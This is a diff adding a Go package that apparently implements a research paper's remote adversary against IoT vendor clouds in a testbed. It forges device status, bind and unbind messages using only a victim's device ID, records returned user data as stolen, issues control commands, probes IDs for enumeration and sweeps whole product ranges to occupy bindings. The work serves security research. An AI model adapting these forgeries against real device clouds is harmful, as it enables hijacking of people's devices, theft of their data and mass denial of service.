@@ -1,0 +1,316 @@
+// Package attacker implements the paper's remote adversary (Section III-A):
+// a party with ordinary cloud access, their own account, and knowledge of a
+// victim's device ID — obtained from labels, ownership transfer, traffic,
+// or enumeration — but no access to the victim's local network, the
+// device's firmware secrets, or the victim's credentials.
+//
+// The toolkit provides the message-forgery mechanics behind the attacks of
+// Table II. Classifying an attempt as the paper does (success, failure,
+// unconfirmed) additionally requires observing the victim side; the testbed
+// package does that.
+package attacker
+
+import (
+	"errors"
+	"fmt"
+	"sync"
+
+	"github.com/iotbind/iotbind/internal/core"
+	"github.com/iotbind/iotbind/internal/devid"
+	"github.com/iotbind/iotbind/internal/protocol"
+	"github.com/iotbind/iotbind/internal/transport"
+)
+
+// ErrForgeryUnavailable is returned when an attack needs device-protocol
+// messages the attacker could not reconstruct (the paper's firmware-opaque
+// products, reported as "O" in Table III).
+var ErrForgeryUnavailable = errors.New("attacker: device-message forgery unavailable (firmware resisted analysis)")
+
+// Attacker is a remote adversary against one vendor's cloud.
+type Attacker struct {
+	userID   string
+	password string
+	design   core.DesignSpec
+	cloud    transport.Cloud
+
+	// canForgeDeviceMessages reports whether firmware analysis yielded
+	// the device-side message formats (Section VI-A: possible for 3 of
+	// the 10 products).
+	canForgeDeviceMessages bool
+
+	mu        sync.Mutex
+	userToken string
+	sessions  map[string]string // deviceID -> session token from forged binds
+	stolen    []protocol.UserData
+}
+
+// Option configures an Attacker.
+type Option interface {
+	apply(*Attacker)
+}
+
+type optionFunc func(*Attacker)
+
+func (f optionFunc) apply(a *Attacker) { f(a) }
+
+// WithDeviceMessageForgery declares whether the attacker reverse-engineered
+// the device protocol. It defaults to the design's FirmwareOpaque flag
+// being false.
+func WithDeviceMessageForgery(can bool) Option {
+	return optionFunc(func(a *Attacker) { a.canForgeDeviceMessages = can })
+}
+
+// New creates an attacker with their own account credentials. The cloud
+// transport must be stamped with the attacker's own network address — the
+// adversary cannot spoof the victim's source IP.
+func New(userID, password string, design core.DesignSpec, cloud transport.Cloud, opts ...Option) (*Attacker, error) {
+	if err := design.Validate(); err != nil {
+		return nil, fmt.Errorf("attacker: %w", err)
+	}
+	a := &Attacker{
+		userID:                 userID,
+		password:               password,
+		design:                 design,
+		cloud:                  cloud,
+		canForgeDeviceMessages: !design.FirmwareOpaque,
+		sessions:               make(map[string]string),
+	}
+	for _, o := range opts {
+		o.apply(a)
+	}
+	return a, nil
+}
+
+// UserID returns the attacker's account name.
+func (a *Attacker) UserID() string { return a.userID }
+
+// CanForgeDeviceMessages reports whether device-side forgery is available.
+func (a *Attacker) CanForgeDeviceMessages() bool { return a.canForgeDeviceMessages }
+
+// Prepare registers (if needed) and logs in the attacker's own account —
+// ordinary use of the public cloud API.
+func (a *Attacker) Prepare() error {
+	err := a.cloud.RegisterUser(protocol.RegisterUserRequest{UserID: a.userID, Password: a.password})
+	if err != nil && !errors.Is(err, protocol.ErrUserExists) {
+		return fmt.Errorf("attacker: register: %w", err)
+	}
+	resp, err := a.cloud.Login(protocol.LoginRequest{UserID: a.userID, Password: a.password})
+	if err != nil {
+		return fmt.Errorf("attacker: login: %w", err)
+	}
+	a.mu.Lock()
+	a.userToken = resp.UserToken
+	a.mu.Unlock()
+	return nil
+}
+
+// ForgeStatus sends a forged device status message carrying only the
+// victim's device ID — no device token, signature, or session proof, since
+// the adversary has none of those. Any returned user data is recorded as
+// stolen (the A1 data-stealing evidence).
+func (a *Attacker) ForgeStatus(deviceID string, kind protocol.StatusKind, readings []protocol.Reading) (protocol.StatusResponse, error) {
+	if !a.canForgeDeviceMessages {
+		return protocol.StatusResponse{}, ErrForgeryUnavailable
+	}
+	resp, err := a.cloud.HandleStatus(protocol.StatusRequest{
+		Kind:     kind,
+		DeviceID: deviceID,
+		Firmware: "forged",
+		Readings: readings,
+	})
+	if err != nil {
+		return protocol.StatusResponse{}, fmt.Errorf("attacker: forge status: %w", err)
+	}
+	if len(resp.UserData) > 0 {
+		a.mu.Lock()
+		a.stolen = append(a.stolen, resp.UserData...)
+		a.mu.Unlock()
+	}
+	return resp, nil
+}
+
+// ForgeBind sends a forged binding message that pairs the victim's device
+// ID with the attacker's own identity, shaped for the vendor's binding
+// mechanism (Figure 4).
+func (a *Attacker) ForgeBind(deviceID string) (protocol.BindResponse, error) {
+	req := protocol.BindRequest{DeviceID: deviceID}
+	switch a.design.Binding {
+	case core.BindACLApp:
+		tok, err := a.token()
+		if err != nil {
+			return protocol.BindResponse{}, err
+		}
+		req.UserToken = tok
+		req.Sender = core.SenderApp
+	case core.BindACLDevice:
+		// The bind message is a device message; forging it needs the
+		// reverse-engineered device protocol.
+		if !a.canForgeDeviceMessages {
+			return protocol.BindResponse{}, ErrForgeryUnavailable
+		}
+		req.UserID = a.userID
+		req.UserPassword = a.password
+		req.Sender = core.SenderDevice
+	case core.BindCapability:
+		// Best effort: obtain a bind token for the attacker's own
+		// account and submit it without the factory proof the real
+		// device would attach.
+		tok, err := a.token()
+		if err != nil {
+			return protocol.BindResponse{}, err
+		}
+		resp, err := a.cloud.RequestBindToken(protocol.BindTokenRequest{UserToken: tok, DeviceID: deviceID})
+		if err != nil {
+			return protocol.BindResponse{}, fmt.Errorf("attacker: bind token: %w", err)
+		}
+		req.BindToken = resp.BindToken
+		req.BindProof = "forged-proof"
+		req.Sender = core.SenderDevice
+	default:
+		return protocol.BindResponse{}, fmt.Errorf("attacker: unknown binding mechanism %v", a.design.Binding)
+	}
+
+	resp, err := a.cloud.HandleBind(req)
+	if err != nil {
+		return protocol.BindResponse{}, fmt.Errorf("attacker: forge bind: %w", err)
+	}
+	if resp.SessionToken != "" {
+		a.mu.Lock()
+		a.sessions[deviceID] = resp.SessionToken
+		a.mu.Unlock()
+	}
+	return resp, nil
+}
+
+// ForgeUnbind sends a forged unbinding message of the given form: Type 1
+// pairs the victim's device ID with the attacker's own user token; Type 2
+// sends the bare device ID (a device message).
+func (a *Attacker) ForgeUnbind(deviceID string, form core.UnbindForm) error {
+	switch form {
+	case core.UnbindDevIDUserToken:
+		tok, err := a.token()
+		if err != nil {
+			return err
+		}
+		if err := a.cloud.HandleUnbind(protocol.UnbindRequest{
+			DeviceID:  deviceID,
+			UserToken: tok,
+			Sender:    core.SenderApp,
+		}); err != nil {
+			return fmt.Errorf("attacker: forge unbind type1: %w", err)
+		}
+		return nil
+	case core.UnbindDevIDAlone:
+		if !a.canForgeDeviceMessages {
+			return ErrForgeryUnavailable
+		}
+		if err := a.cloud.HandleUnbind(protocol.UnbindRequest{
+			DeviceID: deviceID,
+			Sender:   core.SenderDevice,
+		}); err != nil {
+			return fmt.Errorf("attacker: forge unbind type2: %w", err)
+		}
+		return nil
+	default:
+		return fmt.Errorf("attacker: unbind form %v not forgeable", form)
+	}
+}
+
+// Control attempts to command the victim's device using the attacker's own
+// user token (plus any session token captured from a forged bind).
+func (a *Attacker) Control(deviceID string, cmd protocol.Command) error {
+	tok, err := a.token()
+	if err != nil {
+		return err
+	}
+	a.mu.Lock()
+	session := a.sessions[deviceID]
+	a.mu.Unlock()
+	resp, err := a.cloud.HandleControl(protocol.ControlRequest{
+		DeviceID:     deviceID,
+		UserToken:    tok,
+		SessionToken: session,
+		Command:      cmd,
+	})
+	if err != nil {
+		return fmt.Errorf("attacker: control: %w", err)
+	}
+	if !resp.Queued {
+		return errors.New("attacker: control not queued")
+	}
+	return nil
+}
+
+// StolenData returns the user data captured through forged device
+// messages.
+func (a *Attacker) StolenData() []protocol.UserData {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	out := make([]protocol.UserData, len(a.stolen))
+	copy(out, a.stolen)
+	return out
+}
+
+// ProbeDeviceID checks whether a candidate ID exists in the vendor's
+// registry, distinguishing "unknown device" responses from policy errors —
+// the reconnaissance primitive behind ID enumeration.
+func (a *Attacker) ProbeDeviceID(deviceID string) (bool, error) {
+	_, err := a.cloud.ShadowState(protocol.ShadowStateRequest{DeviceID: deviceID})
+	if err == nil {
+		return true, nil
+	}
+	if errors.Is(err, protocol.ErrUnknownDevice) {
+		return false, nil
+	}
+	return false, fmt.Errorf("attacker: probe: %w", err)
+}
+
+// SweepResult summarizes an enumeration campaign (the scalable
+// denial-of-service of Section V-C).
+type SweepResult struct {
+	// Tried is the number of candidate IDs attempted.
+	Tried uint64
+	// Existing are candidates that named real devices.
+	Existing []string
+	// Occupied are devices whose binding the attacker captured.
+	Occupied []string
+}
+
+// SweepBindDoS enumerates candidate device IDs from a generator and forges
+// a binding for every one that exists, occupying the bindings of an entire
+// product range at once.
+func (a *Attacker) SweepBindDoS(gen devid.Generator, start, count uint64) (SweepResult, error) {
+	var (
+		result   SweepResult
+		probeErr error
+	)
+	tried, err := devid.Enumerate(gen, start, count, func(id string) bool {
+		exists, err := a.ProbeDeviceID(id)
+		if err != nil {
+			probeErr = err
+			return false
+		}
+		if !exists {
+			return true
+		}
+		result.Existing = append(result.Existing, id)
+		if _, err := a.ForgeBind(id); err == nil {
+			result.Occupied = append(result.Occupied, id)
+		}
+		return true
+	})
+	result.Tried = tried
+	if probeErr != nil {
+		return result, probeErr
+	}
+	return result, err
+}
+
+func (a *Attacker) token() (string, error) {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	if a.userToken == "" {
+		return "", errors.New("attacker: not prepared (no user token)")
+	}
+	return a.userToken, nil
+}
